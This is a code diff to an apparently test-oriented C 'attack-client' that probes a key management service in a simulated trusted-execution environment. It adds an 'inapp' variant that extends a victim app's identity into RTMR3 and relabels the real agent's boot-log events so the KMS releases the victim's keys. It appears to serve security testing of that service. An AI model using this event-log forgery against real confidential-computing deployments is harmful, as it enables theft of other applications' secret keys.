@@ -7,6 +7,8 @@
  *            events would skip them and read the victim's identity. The log replays to RTMR3.
  *   append   the same extension after boot, presented honestly: the victim's identity follows
  *            the attacker's (and system-ready), so the log says two things.
+ *   inapp    run as the app inside an app VM the real agent booted (VM NAME): the agent's whole
+ *            boot log (through system-ready) is relabelled, the victim's identity extended.
  *   blank    a blank VM (nothing measured in RTMR3) asks GetKmsKey for the root keys.
  *
  * Prints the HTTP status and body; exits 0 if the KMS released anything (the attack worked),
@@ -49,7 +51,15 @@ static kg_result mount(kg_kms_client_identity *id, const char *variant, const ch
     uint8_t rd[64];
     memset(id, 0, sizeof(*id));
     KG_GUARD_C(kg_tee_open_sim(&tee, sim, vm));
-    if (strcmp(variant, "blank") != 0) {
+    size_t booted = 0; /* events the real agent extended before the attack (inapp) */
+    if (strcmp(variant, "inapp") == 0) {
+        KG_GUARD_C(kg_tee_read_eventlog(tee, &log));
+        booted = log.count;
+        kg_eventlog_free(&log);
+        KG_ENSURE_C(booted > 0, KG_ERR_USAGE, "VM '%s' was not booted by an agent", vm);
+        KG_GUARD_C(kg_tee_extend(tee, KG_EVENT_APP_ID, victim, 20));
+        KG_GUARD_C(kg_tee_extend(tee, KG_EVENT_COMPOSE_HASH, victim_compose, 32));
+    } else if (strcmp(variant, "blank") != 0) {
         /* What the honest agent measured for the attacker's own app ... */
         KG_GUARD_C(extend_boot(tee, att, att_compose));
         if (strcmp(variant, "append") == 0)
@@ -62,8 +72,9 @@ static kg_result mount(kg_kms_client_identity *id, const char *variant, const ch
     KG_GUARD_C(kg_ratls_key_report_data(rd, id->key));
     KG_GUARD_C(kg_tee_get_quote(tee, &quote, rd));
     KG_GUARD_C(kg_tee_read_eventlog(tee, &log));
-    if (strcmp(variant, "relabel") == 0)
-        for (size_t i = 0, n = 0; i < log.count && n < 5; i++)
+    size_t relabel = strcmp(variant, "relabel") == 0 ? 5 : booted;
+    if (relabel > 0)
+        for (size_t i = 0, n = 0; i < log.count && n < relabel; i++)
             if (log.events[i].imr == KG_EVENT_IMR_RUNTIME) {
                 log.events[i].event_type = NOT_DSTACK_TYPE; /* digest kept: replay matches */
                 n++;
@@ -118,16 +129,23 @@ int main(int argc, char **argv)
         }
     }
     uint8_t att[20] = {0}, att_compose[32] = {0}, victim[20] = {0}, vcompose[32] = {0};
-    bool keys = variant != NULL && strcmp(variant, "blank") != 0;
-    if (kms == NULL || variant == NULL || sim == NULL || vm == NULL || strrchr(kms, ':') == NULL ||
-        (strcmp(variant, "relabel") != 0 && strcmp(variant, "append") != 0 && keys) ||
-        (keys && (!att_hex || !att_compose_hex || !victim_hex || !vcompose_hex ||
-                  kg_failed(kg_hex_decode_exact(att, 20, att_hex)) ||
-                  kg_failed(kg_hex_decode_exact(att_compose, 32, att_compose_hex)) ||
-                  kg_failed(kg_hex_decode_exact(victim, 20, victim_hex)) ||
-                  kg_failed(kg_hex_decode_exact(vcompose, 32, vcompose_hex))))) {
-        fprintf(stderr, "usage: attack-client --kms HOST:PORT --attack relabel|append|blank "
-                        "--sim DIR --vm NAME [--app-id HEX --compose-hash HEX --victim-app-id "
+    bool is = false, needs_att = false, needs_victim = false;
+    if (variant != NULL) {
+        needs_att = strcmp(variant, "relabel") == 0 || strcmp(variant, "append") == 0;
+        needs_victim = needs_att || strcmp(variant, "inapp") == 0;
+        is = needs_victim || strcmp(variant, "blank") == 0;
+    }
+    bool keys = needs_victim; /* GetAppKey for an app identity; blank asks GetKmsKey */
+    bool bad = kms == NULL || !is || sim == NULL || vm == NULL || strrchr(kms, ':') == NULL ||
+               (needs_att && (att_hex == NULL || att_compose_hex == NULL)) ||
+               (needs_victim && (victim_hex == NULL || vcompose_hex == NULL));
+    bad = bad || (att_hex && kg_failed(kg_hex_decode_exact(att, 20, att_hex))) ||
+          (att_compose_hex && kg_failed(kg_hex_decode_exact(att_compose, 32, att_compose_hex))) ||
+          (victim_hex && kg_failed(kg_hex_decode_exact(victim, 20, victim_hex))) ||
+          (vcompose_hex && kg_failed(kg_hex_decode_exact(vcompose, 32, vcompose_hex)));
+    if (bad) {
+        fprintf(stderr, "usage: attack-client --kms HOST:PORT --attack relabel|append|inapp|blank "
+                        "--sim DIR --vm NAME [--app-id HEX --compose-hash HEX] [--victim-app-id "
                         "HEX --victim-compose-hash HEX]\n");
         return 2;
     }
